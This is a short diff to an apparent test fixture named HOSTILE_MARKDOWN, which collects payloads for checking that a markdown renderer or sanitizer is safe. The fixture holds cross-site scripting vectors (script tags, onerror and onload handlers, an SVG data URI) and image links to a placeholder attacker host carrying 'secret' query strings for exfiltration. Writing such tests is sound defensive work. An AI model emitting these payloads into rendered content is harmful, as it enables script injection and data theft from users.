@@ -11,9 +11,11 @@ export const HOSTILE_MARKDOWN = `Before.
 <script>${RUN}</script>
 <img src="x" onerror="${RUN}">
 <img src="${EVIL}/pixel.png?secret=1">
+
 ![exfiltrate](${EVIL}/leak.png?q=secret)
 ![relative](/api/v1/me)
-![vector](data:image/svg+xml,<svg/onload=${RUN}>)
+![vector](data:image/svg+xml,%3Csvg/onload=alert(1)%3E)
+[![linked](${EVIL}/linked.png)](https://good.example.com/image)
 
 <svg onload="${RUN}"><image href="${EVIL}/svg.png"/></svg>
 <iframe src="${EVIL}/frame"></iframe>
